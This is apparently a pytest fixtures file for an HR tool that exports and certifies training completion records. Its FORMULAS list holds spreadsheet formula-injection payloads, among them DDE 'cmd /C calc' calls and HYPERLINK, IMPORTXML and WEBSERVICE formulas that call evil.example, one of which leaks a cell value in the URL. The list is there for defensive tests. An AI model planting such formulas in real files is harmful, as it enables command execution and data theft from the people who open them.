"""What the tests of HR's exports share: one authority, made once, and a register on a fresh folder."""

from __future__ import annotations

import argparse
import json
import random
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple
from uuid import UUID, uuid4, uuid5

import pytest
from sqlite_utils import Database

from exports.certify import certify
from exports.hr import authority as authorities
from exports.hr import commands, invitation
from exports.hr.arguments import add_commands
from exports.hr.authority import Authority
from exports.hr.desk import Given
from exports.hr.intake import IntakeReport, take_in
from exports.hr.judging import Judge, Judged
from exports.keys import Installation, load_or_create
from exports.record import make_record
from exports.trust import Trust
from modules.model import AUDIENCES, Organisation, Policy
from records.hr import held, invitations, people
from records.hr.held import Accepting
from records.hr.model import Details, Person
from records.hr.people import insert
from records.hr.register import Register, open_register
from records.model import Completion, Invitation
from records.moment import to_text

PASSPHRASE = "kettle otter window"


class Kept(NamedTuple):
    """An authority as it is on disk, and open."""

    folder: Path
    authority: Authority
    passphrase: str = PASSPHRASE


@pytest.fixture(scope="session")
def kept(tmp_path_factory: pytest.TempPathFactory, now: datetime) -> Kept:
    """Make one authority for all tests; none of them may change its folder."""
    folder = tmp_path_factory.mktemp("hr")
    return Kept(folder, authorities.create(folder, "Blue Heron Trust", PASSPHRASE, now))


@pytest.fixture(scope="session")
def other(tmp_path_factory: pytest.TempPathFactory, now: datetime) -> Authority:
    """Make the authority of another organisation."""
    return authorities.create(tmp_path_factory.mktemp("other-hr"), "Red Kite Trust", PASSPHRASE, now)


@pytest.fixture(scope="session")
def authority(kept: Kept) -> Authority:
    return kept.authority


@pytest.fixture
def copy(kept: Kept, tmp_path: Path) -> Path:
    """Return a folder with a copy of the authority, to be changed."""
    shutil.copytree(kept.folder, tmp_path / "copy")
    return tmp_path / "copy"


@pytest.fixture
def register(tmp_path: Path, now: datetime) -> Iterator[Register]:
    made = open_register(tmp_path / "register", now)
    yield made
    made.close()


@pytest.fixture(scope="session")
def organisation() -> Organisation:
    return Organisation(
        name="Blue Heron Trust",
        short_name="Heron",
        homepage="https://heron.example",
        hr_email="hr@heron.example",
        training_link="",
        slides_link="",
        pass_mark=0.8,
        check_items=20,
        valid_months=12,
        new_starter_days=14,
    )


def seeded(register: Register, count: int, now: datetime, organisation: Organisation, seed: int = 7) -> None:
    """Fill a register with invented people who stand in every way there is."""
    chance = random.Random(seed)
    names = ("Siân Ŵyn-Ŷstwyth", "Zoë Example", "Ann “Quoted” Test", "Bartholomew Featherstonehaugh-Test von Sample")
    teams = ("Programmes", "Marketing, PR; and press", "Digital\u2009team", "R&D <tests>", "")
    with register.deed("Tester", "seeded", "", now) as db:
        for number in range(count):
            details = Details(
                name=f"{chance.choice(names)} {number}",
                email=f"person.{number}@heron.example" if number % 7 else "",
                staff_number=f"{number:05}" if number % 3 or not number % 7 else "",
                team=chance.choice(teams),
                nation=chance.choice(("England", "Wales", "")),
                manager_email=f"manager.{number % 11}@heron.example" if number % 5 else "",
                audiences=chance.choice((("everyone",), ("everyone", "manage"), AUDIENCES)),
                left_on=(now - timedelta(days=9)).date() if number % 50 == 3 else None,
            )
            insert(db, f"person-{number}", details, organisation, now - timedelta(days=chance.randrange(40)))
            if chance.random() < 0.7:
                _complete(db, f"person-{number}", now - timedelta(days=chance.randrange(500)), chance)


def _complete(db: Database, person_id: str, at: datetime, chance: random.Random) -> None:
    ends = to_text(at + timedelta(days=365))
    standing = {
        "completed_at": to_text(at),
        "expires_at": ends,
        "due_at": ends,
        "policy_version": chance.choice(("6.2", "7.0", "7.0", "7.0")),
        "score": chance.choice((0.8, 0.85, 0.8999999, 11 / 12, 1.0, 0.29)),
        "verdict": chance.choice(("known", "invited", "countersigned", "unrecognised")),
        "completion_id": f"completion-of-{person_id}",
        "countersigned_at": to_text(at + timedelta(hours=5)) if chance.random() < 0.5 else None,
    }
    places = ", ".join(f"{name} = :{name}" for name in standing)
    db.execute(f"UPDATE person SET {places} WHERE id = :id", {**standing, "id": person_id})


@pytest.fixture(scope="session")
def crowd(tmp_path_factory: pytest.TempPathFactory, now: datetime, organisation: Organisation) -> Iterator[Register]:
    """Make a register of 1 000 people, once; no test may change it."""
    made = open_register(tmp_path_factory.mktemp("crowd"), now)
    seeded(made, 1000, now, organisation)
    yield made
    made.close()


@pytest.fixture
def fill(now: datetime, organisation: Organisation) -> Callable[..., None]:
    """Give what fills a register with invented people: `fill(register, count)`."""
    return lambda register, count, **more: seeded(register, count, now, organisation, **more)


# Texts that spreadsheets might calculate, run, or fetch something for.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","click")',
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1", "'=1+1", '"=1+1"', '"=1+1', "''=1", "' =1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u22121+1", "\u200b=1+1", "\ufeff=1+1", "\u200e=1+1", "\u2060@x",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=WEBSERVICE("https://evil.example")',
    "@import", "+447700900123", "-Infinity", "=", "+", "-", "@", "==1", "=+1", "-@1", "=\n1", "a;=1+1", "a\t=1+1",
    "a,=1+1", "a|=1+1", "x\r\n=1+1", "x\n@SUM(1)", 'a;"=1+1"', "1;-1", '=DDE("cmd";"/C calc";"x")', "{=1+1}",
    "=1+1\x00",
)  # fmt: skip


@pytest.fixture(scope="session")
def formulas() -> tuple[str, ...]:
    """Give fifty texts that no file may let a spreadsheet calculate."""
    return FORMULAS


# A list of three people as an HR system writes it.
ROSTER = (
    "Employee Name;Work Email;Dept;Country;Staff No\n"
    "Example, Robin;robin@example.org;Food;Wales;100\n"
    "Áine Sample;aine@example.org;Food;England;101\n"
    "Jo Invented;jo@example.org;Digital;Wales;102\n"
)


def _parser() -> argparse.ArgumentParser:
    top = argparse.ArgumentParser()

    def add(group: Any, name: str, words: str) -> argparse.ArgumentParser:
        made: argparse.ArgumentParser = group.add_parser(name, help=words)
        made.add_argument("--passphrase-file", type=Path)
        made.set_defaults(command=name)
        return made

    add_commands(top.add_subparsers(required=True), add)
    return top


POLICY = Policy("M01", "7.0", "A policy", (), "")


class CommandLine:
    """HR at the command line, with a folder of its own: `hr("list", "--team", "Food")` gives exit code and document."""

    parser = _parser()

    def __init__(self, data: Path, organisation: Organisation, now: datetime) -> None:
        self.data = data
        self.told: list[tuple[int, int]] = []
        self.given = Given(data, organisation, POLICY, frozenset({"7.0"}), now, "Hana Example", self._tell)
        self.secret = data / "secret.txt"
        self.secret.write_text(PASSPHRASE + "\n", "utf-8")

    def _tell(self, done: int, total: int) -> bool:
        self.told.append((done, total))
        return True

    def __call__(self, *words: object, who: str = "Hana Example", later: timedelta = timedelta()) -> Any:
        options = self.parser.parse_args([*map(str, words), "--passphrase-file", str(self.secret)])
        code, document, lines = commands.run(replace(self.given, who=who, now=self.given.now + later), options)
        json.dumps(document)
        assert all(isinstance(line, str) for line in lines)
        return code, document

    def file(self, name: str, text: str) -> Path:
        path = self.data / name
        path.write_text(text, "utf-8")
        return path


_really_stretched = authorities._stretched


@cache
def _stretched_once(passphrase: str, kdf: str) -> bytes:
    return _really_stretched(passphrase, json.loads(kdf))


@pytest.fixture
def command_line(
    organisation: Organisation, now: datetime, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Callable[[str], CommandLine]:
    """Give a new command line of HR, in a folder of that name where nothing is set up yet."""
    # The same passphrase is stretched once in all tests, and not for 0.4 s with each command.
    monkeypatch.setattr(authorities, "_stretched", lambda words, kdf: _stretched_once(words, json.dumps(dict(kdf))))

    def make(name: str) -> CommandLine:
        (tmp_path / name).mkdir()
        return CommandLine(tmp_path / name, organisation, now)

    return make


@pytest.fixture
def hr(command_line: Callable[[str], CommandLine], copy: Path) -> CommandLine:
    """Give a command line of HR with an authority (made once for all tests) and three people."""
    made = command_line("data")
    copy.rename(made.data / "hr")
    assert made("roster", made.file("people.csv", ROSTER))[0] == 0
    return made


@pytest.fixture
def signed_for(make: Callable[..., Completion], now: datetime) -> Callable[..., tuple[Completion, bytes, bytes]]:
    """Give what makes completion, record and certificate of somebody of the roster, by staff number."""
    names = {"100": "Robin Example", "101": "Áine Sample", "102": "Jo Invented"}
    emails = {"100": "robin@example.org", "101": "aine@example.org", "102": "jo@example.org"}

    def build(number: str, installation: Installation, prove: Any = None) -> tuple[Completion, bytes, bytes]:
        completion = make(
            id=str(uuid5(UUID(int=0), number)), name=names[number], email=emails[number], staff_number=number
        )
        acknowledgement = replace(completion.acknowledgement, typed_name=names[number])
        completion = replace(completion, acknowledgement=acknowledgement)
        if prove is not None:
            completion = replace(completion, invitation=prove(completion.id))
        return completion, *certify(completion, installation, now)

    return build


@dataclass
class Office:
    """A register with people in it, and short ways to certify, judge and take in what they send."""

    register: Register
    organisation: Organisation
    authority: Authority
    completion: Completion
    now: datetime
    folder: Path
    who = "Hana Example"

    def add(self, name: str, email: str = "", staff_number: str = "") -> Person:
        details = Details(name, email or f"{name.split(maxsplit=1)[0].lower()}@heron.example", staff_number)
        return people.add(self.register, details, self.organisation, self.now, self.who)

    def completed(self, person: Person | None = None, **changes: Any) -> Completion:
        """Return a completion of its own, with the details of a person."""
        d = person.details if person else Details("Siân Ŵyn-Ŷstwyth", "sian@wrap.example", "10042")
        own = {"id": str(uuid4()), "name": d.name, "email": d.email, "staff_number": d.staff_number}
        return replace(self.completion, **{**own, **changes})

    def record(self, key: Installation, person: Person | None = None, **changes: Any) -> bytes:
        return make_record(self.completed(person, **changes), key)

    def both(self, key: Installation, person: Person | None = None, **changes: Any) -> tuple[bytes, bytes]:
        return certify(self.completed(person, **changes), key, self.now)

    def invited(self, person: Person) -> Invitation:
        data, invited = invitation.make(person, self.authority, self.organisation, self.now)
        invitations.keep(self.register, [invited], self.now, self.who)
        return invitation.read(data, self.now)

    def answer(self, invited: Invitation, key: Installation, person: Person, **changes: Any) -> bytes:
        """Return the record of somebody who answers an invitation, whoever that is."""
        completion = self.completed(person, **changes)
        proof = invitation.prove(invited, completion.id, key.root_der)
        return make_record(replace(completion, invitation=proof), key)

    def trust(self, *pinned: Installation) -> Trust:
        return Trust((self.authority.root_pem, *(key.root_pem for key in pinned)))

    def judge(self, data: bytes, *pinned: Installation, now: datetime | None = None) -> Judged:
        return Judge(self.register, self.trust(*pinned), now or self.now).judge(data)

    def accept(self, data: bytes, person: Person) -> None:
        """Let HR accept a file for a person, as a named person does from the tray."""
        judged = self.judge(data)
        assert judged.verification.completion is not None
        assert judged.files is not None
        one = Accepting(judged.verification.completion, judged.files, person.id, "known", judged.root)
        held.accept(self.register, [one], organisation=self.organisation, now=self.now, who=self.who)

    def put(self, **files: bytes) -> Path:
        """Write files into a folder of their own and return it; `_pdf` at the end of a name is its suffix."""
        home = self.folder / uuid4().hex
        home.mkdir(parents=True)
        for name, data in files.items():
            (home / ".".join(name.rsplit("_", 1))).write_bytes(data)
        return home

    def take(self, *paths: Path, pinned: tuple[Installation, ...] = (), **more: Any) -> IntakeReport:
        values = {"now": self.now, "who": self.who, **more}
        return take_in(paths, self.register, self.trust(*pinned), self.organisation, **values)


@pytest.fixture
def office(
    register: Register,
    organisation: Organisation,
    authority: Authority,
    completion: Completion,
    now: datetime,
    tmp_path: Path,
) -> Office:
    return Office(register, organisation, authority, completion, now, tmp_path / "files")


@pytest.fixture(scope="session")
def keys(
    installation: Installation, stranger: Installation, tmp_path_factory: pytest.TempPathFactory, now: datetime
) -> tuple[Installation, ...]:
    """Make six installations."""
    more = [load_or_create(tmp_path_factory.mktemp("key"), now=now, use_keyring=False) for _ in range(4)]
    return (installation, stranger, *more)
